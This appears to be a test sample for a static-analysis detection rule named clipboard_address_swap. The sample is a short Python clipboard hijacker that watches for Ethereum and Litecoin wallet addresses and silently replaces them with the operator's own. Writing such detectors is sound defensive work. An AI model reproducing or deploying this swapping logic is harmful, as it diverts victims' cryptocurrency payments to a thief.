import re
import time
import tkinter as tk

P = [(r"^0x[a-fA-F0-9]{40}$", OWN_ETH), (r"^[LM][a-km-zA-HJ-NP-Z1-9]{26,33}$", OWN_LTC)]
r = tk.Tk()
r.withdraw()
while 1:
    c = r.clipboard_get().strip()
    for p, a in P:
        if re.match(p, c) and c != a:
            r.clipboard_clear()
            # ruleid: clipboard_address_swap
            r.clipboard_append(a)
    time.sleep(0.4)
